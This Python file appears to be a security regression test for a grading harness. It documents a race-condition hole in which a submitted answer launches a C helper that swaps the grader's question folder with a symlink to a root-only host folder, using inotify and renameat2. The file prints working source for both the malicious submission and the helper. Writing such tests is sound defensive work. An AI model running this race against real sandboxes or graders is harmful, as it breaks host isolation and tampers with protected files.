"""Hole 4 of issue 11: a race on the question folder. Where the question folder lies in a
folder the sandbox user owns (the old exchange), a helper (C, built by the harness on the
host: HELPER below) waits with inotify for the grader to create a question folder and swaps
it (renameat2 RENAME_EXCHANGE) with a symbolic link to a root-only host folder ($SECRET); the
grader then made folders in it, chmod-ed it 0755, chown-ed a folder in it to the sandbox user
and wrote the inputs there. It tries on every question of the part (at most 40 swaps, 120 s).
$SECRET must stay as it was (checked by the harness); the attacked question scores 0."""

QUESTION = "rnn_step_forward"
MESSAGE = r"next_h: error"
HELPERS = {"cs231n/race_helper": "HELPER"}  # built with gcc on the host by the harness
SOURCE = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    import os, shutil, subprocess, sys
    import numpy as np
    helper = os.path.join(os.getcwd(), ".race_helper")     # the submission's files are not executable
    try:
        shutil.copy(os.path.join(os.path.dirname(os.path.abspath(__file__)), "race_helper"), helper)
        os.chmod(helper, 0o755)
        subprocess.Popen([helper, os.getcwd(), "$SECRET"], stdout=sys.stderr, stderr=sys.stderr,
                         start_new_session=True)
    except OSError as exc:
        print("attack: cannot start the helper:", exc, file=sys.stderr)
    return np.zeros_like(prev_h), None
'''
HELPER = r'''
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
/* race_helper DIR TARGET: swap each folder created in DIR with a link to TARGET. */
int main(int argc, char **argv) {
    if (argc != 3) return 2;
    if (chdir(argv[1]) != 0) { perror("chdir"); return 1; }
    int fd = inotify_init1(0);
    if (fd < 0 || inotify_add_watch(fd, ".", IN_CREATE) < 0) { perror("inotify"); return 1; }
    char buf[4096], decoy[64];
    time_t start = time(NULL);
    for (int swaps = 0; swaps < 40 && time(NULL) - start < 120;) {
        snprintf(decoy, sizeof decoy, ".decoy%d", swaps);
        symlink(argv[2], decoy);
        ssize_t n = read(fd, buf, sizeof buf);
        for (char *p = buf; n > 0 && p < buf + n;) {
            struct inotify_event *ev = (struct inotify_event *)p;
            if ((ev->mask & IN_ISDIR) && ev->len && ev->name[0] != '.') {
                if (syscall(SYS_renameat2, AT_FDCWD, ev->name, AT_FDCWD, decoy, RENAME_EXCHANGE) == 0) {
                    fprintf(stderr, "attack: swapped %s\n", ev->name);
                    swaps++;
                    break;
                }
            }
            p += sizeof(struct inotify_event) + ev->len;
        }
    }
    return 0;
}
'''
